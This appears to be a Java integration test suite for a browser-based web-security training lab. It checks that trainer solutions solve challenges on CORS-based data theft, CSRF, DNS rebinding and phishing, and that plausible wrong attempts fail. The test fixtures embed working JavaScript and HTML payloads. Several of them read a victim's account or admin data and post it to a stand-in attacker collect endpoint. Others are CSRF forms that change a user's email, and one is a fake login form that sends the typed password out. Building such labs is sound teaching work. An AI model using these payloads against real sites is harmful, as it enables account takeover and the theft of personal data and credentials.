package lab.runner.challenges;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import lab.runner.LabCatalogue;
import lab.runner.LabSession;
import lab.runner.LabTestSession;
import lab.runner.cases.ChallengeVerdict;
import lab.scenarios.ScenarioCatalogue;
import lab.scenarios.challenges.Challenge;
import lab.scenarios.challenges.ChallengeCatalogue;
import lab.scenarios.challenges.ChallengeKind;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every challenge's trainer solution solves it in the real browser, and plausible wrong attempts at each attack
 * challenge do not: the verdict comes from what Alice's browser sent and what the servers recorded. One lab
 * session serves the whole suite.
 */
class ChallengesBrowserIT {

    private static final ScenarioCatalogue SCENARIOS = LabCatalogue.load();
    private static final ChallengeCatalogue CHALLENGES = LabCatalogue.challenges(SCENARIOS);

    private static LabSession session;
    private static ChallengeLab lab;

    @BeforeAll
    static void startLab() {
        session = LabTestSession.start(SCENARIOS);
        lab = new ChallengeLab(
                session.servers(), session.browser(), SCENARIOS, CHALLENGES, ChallengeProgress.inMemory());
    }

    @AfterAll
    static void stopLab() {
        if (lab != null) {
            lab.close();
        }
        if (session != null) {
            session.close();
        }
    }

    static Stream<Challenge> challenges() {
        return CHALLENGES.all().stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("challenges")
    void theTrainersSolutionSolvesIt(Challenge challenge) {
        ChallengeVerdict verdict = challenge.kind() == ChallengeKind.ATTACK
                ? lab.deliverSource(
                        challenge.id(),
                        CHALLENGES.solutionSource(challenge.id()).orElseThrow().getBytes(StandardCharsets.UTF_8),
                        challenge.solutionHost())
                : lab.defend(challenge.id(), challenge.solutionDefences());

        assertThat(verdict.solved())
                .as(verdict.verdict() + "\n" + String.join("\n", verdict.evidence()))
                .isTrue();
        assertThat(lab.progress().solved(challenge.id())).isTrue();
    }

    /** A page that reads without credentials, then posts what it got. */
    private static final String WITHOUT_CREDENTIALS = """
            <script>
            fetch('{{victim}}/api/me').then(r => r.json()).catch(() => ({}))
              .then(data => fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors',
                 headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ scenario: 'x', data }) }))
              .finally(() => { document.body.dataset.labResult = 'done'; });
            </script>
            """;

    /** Alice's data as the learner saw it on the screen, posted by the page without reading anything. */
    private static final String COPIED_FROM_THE_SCREEN = """
            <script>
            fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
              body: JSON.stringify({ scenario: 'x', data: { email: 'alice@wonderland.example', phone: '+44 20 7946 0018',
                password: 'wonderland', users: ['bob@builder.example'] } }) })
              .finally(() => { document.body.dataset.labResult = 'done'; });
            </script>
            """;

    /** A form post to the settings inside a frame: not a top-level navigation. */
    private static final String FORM_IN_A_FRAME = """
            <iframe name="f" style="display:none"></iframe>
            <form id="x" method="post" target="f" action="{{victim}}/settings/email">
              <input type="hidden" name="email" value="mallory@evil.example"></form>
            <script>document.getElementById('x').submit();
              setTimeout(() => { document.body.dataset.labResult = 'done'; }, 1000);</script>
            """;

    private static final String FETCH_POST_WITH_CREDENTIALS = """
            <script>
            fetch('{{victim}}/settings/email', { method: 'POST', mode: 'no-cors', credentials: 'include',
              headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'email=mallory%40evil.example' })
              .catch(() => {}).finally(() => { document.body.dataset.labResult = 'done'; });
            </script>
            """;

    private static final String JSON_PUT_WITHOUT_CREDENTIALS = """
            <script>
            fetch('{{victim}}/api/settings/email', { method: 'PUT', headers: { 'Content-Type': 'application/json' },
              body: JSON.stringify({ email: 'mallory@evil.example' }) })
              .catch(() => {}).finally(() => { document.body.dataset.labResult = 'done'; });
            </script>
            """;

    private static final String CROSS_ORIGIN_ADMIN_READ = """
            <script>
            fetch('{{victim}}/internal/admin').then(r => r.json())
              .then(data => fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors',
                 headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ scenario: 'x', data }) }))
              .catch(() => {}).finally(() => { document.body.dataset.labResult = 'done'; });
            </script>
            """;

    /** A generic login form that does not greet Alice by name: she does not trust it. */
    private static final String GENERIC_PHISH = """
            <h1>flock.</h1><p>Your session has expired. Please log in again.</p>
            <form id="f"><input id="p" type="password"><button>Log in</button></form>
            <script>
            document.getElementById('f').addEventListener('submit', e => { e.preventDefault();
              fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
                body: JSON.stringify({ scenario: 'x', data: { password: document.getElementById('p').value } }) })
                .finally(() => { document.body.dataset.labResult = 'done'; }); });
            setTimeout(() => { document.body.dataset.labResult = 'done'; }, 1500);
            </script>
            """;

    static Stream<Arguments> wrongAttempts() {
        String reflectSteal = CHALLENGES.solutionSource("steal-with-reflect").orElseThrow();
        String formPost = CHALLENGES.solutionSource("csrf-email").orElseThrow();
        String rebind = CHALLENGES.solutionSource("rebinding-admin").orElseThrow();
        return Stream.of(
                Arguments.of(
                        "steal-with-reflect", "a fetch without credentials", WITHOUT_CREDENTIALS, "evil.localhost"),
                Arguments.of(
                        "steal-with-reflect", "loot copied from the screen", COPIED_FROM_THE_SCREEN, "evil.localhost"),
                Arguments.of("steal-with-null", "the plain read from evil.localhost", reflectSteal, "evil.localhost"),
                Arguments.of("steal-with-null", "loot copied from the screen", COPIED_FROM_THE_SCREEN, "null"),
                Arguments.of(
                        "steal-with-lookalike", "the right page on the wrong host", reflectSteal, "evil.localhost"),
                Arguments.of(
                        "steal-with-lookalike",
                        "a host that fools a prefix check, not a suffix check",
                        reflectSteal,
                        "social.localhost.evil.localhost"),
                Arguments.of("sibling-strict", "the right page on a cross-site host", reflectSteal, "evil.localhost"),
                Arguments.of("sibling-strict", "a look-alike, not a subdomain", reflectSteal, "evilsocial.localhost"),
                Arguments.of(
                        "csrf-email",
                        "a JSON PUT, which needs a preflight",
                        JSON_PUT_WITHOUT_CREDENTIALS,
                        "evil.localhost"),
                Arguments.of(
                        "csrf-email",
                        "a fetch POST without credentials",
                        FETCH_POST_WITH_CREDENTIALS.replace("credentials: 'include',", ""),
                        "evil.localhost"),
                Arguments.of("csrf-json", "a PUT without credentials", JSON_PUT_WITHOUT_CREDENTIALS, "evil.localhost"),
                Arguments.of(
                        "csrf-json",
                        "a form post to the API's address",
                        formPost.replace("/settings/email", "/api/settings/email"),
                        "evil.localhost"),
                Arguments.of(
                        "lax-post-window",
                        "a fetch POST with credentials",
                        FETCH_POST_WITH_CREDENTIALS,
                        "evil.localhost"),
                Arguments.of("lax-post-window", "the form posted inside a frame", FORM_IN_A_FRAME, "evil.localhost"),
                Arguments.of(
                        "rebinding-admin",
                        "a cross-origin read of the admin page",
                        CROSS_ORIGIN_ADMIN_READ,
                        "evil.localhost"),
                Arguments.of(
                        "rebinding-admin", "the right page on a name that never rebinds", rebind, "evil.localhost"),
                Arguments.of(
                        "phish-password", "a generic form that does not greet her", GENERIC_PHISH, "evil.localhost"),
                Arguments.of(
                        "phish-password",
                        "the password copied from the screen",
                        COPIED_FROM_THE_SCREEN,
                        "evil.localhost"));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("wrongAttempts")
    void aWrongAttemptDoesNotSolveIt(String challenge, String attempt, String source, String host) {
        ChallengeVerdict verdict = lab.deliverSource(challenge, source.getBytes(StandardCharsets.UTF_8), host);

        assertThat(verdict.solved())
                .as(attempt + ": " + String.join("\n", verdict.evidence()))
                .isFalse();
        assertThat(verdict.missing()).isNotEmpty();
    }

    @org.junit.jupiter.api.Test
    void nothingOfADeliveryIsLeftForTheNext() {
        String leave = """
                <script>
                localStorage.setItem('left', 'by-the-last-delivery');
                document.cookie = 'left=by-the-last-delivery; max-age=600';
                caches.open('left').catch(() => {}).finally(() => { document.body.dataset.labResult = 'done'; });
                </script>
                """;
        String look = """
                <script>
                (async () => {
                  const found = { storage: localStorage.getItem('left'), cookie: document.cookie,
                                  caches: await caches.keys().catch(() => []) };
                  await fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors',
                    headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ scenario: 'x', data: found }) });
                  document.body.dataset.labResult = 'done';
                })();
                </script>
                """;
        lab.deliverSource("steal-with-reflect", leave.getBytes(StandardCharsets.UTF_8), "evil.localhost");
        ChallengeVerdict next =
                lab.deliverSource("steal-with-reflect", look.getBytes(StandardCharsets.UTF_8), "evil.localhost");

        String loot = String.join("\n", next.evidence());
        assertThat(loot).contains("\"storage\":null", "\"cookie\":\"\"", "\"caches\":[]");
    }

    @org.junit.jupiter.api.Test
    void aPageServedSandboxedHasTheNullOriginItself() {
        String plainRead = CHALLENGES.solutionSource("steal-with-reflect").orElseThrow();
        ChallengeVerdict verdict =
                lab.deliverSource("steal-with-null", plainRead.getBytes(StandardCharsets.UTF_8), "null");

        assertThat(verdict.solved()).as(String.join("\n", verdict.evidence())).isTrue();
        assertThat(verdict.evidence()).anySatisfy(line -> assertThat(line).contains("GET /api/me (Origin: null"));
    }
}
